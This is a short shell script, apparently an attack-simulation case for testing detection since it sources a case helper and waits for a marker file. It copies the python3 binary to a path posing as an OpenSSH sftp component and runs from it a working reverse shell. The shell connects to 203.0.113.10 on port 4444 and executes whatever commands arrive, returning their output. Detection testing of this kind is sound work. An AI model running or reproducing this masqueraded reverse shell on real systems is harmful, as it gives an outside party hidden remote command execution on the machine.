#!/bin/sh
. /opt/case/case.sh

mkdir -p /usr/lib/openssh
cp "$(readlink -f /usr/bin/python3)" /usr/lib/openssh/sftpd-session
/usr/lib/openssh/sftpd-session -c '
import socket, subprocess
s = socket.create_connection(("203.0.113.10", 4444), 5)
for line in s.makefile():
    if line.strip() == "exit": break
    s.sendall(subprocess.run(line, shell=True, capture_output=True).stdout)'
wait_for /tmp/reached
took_place
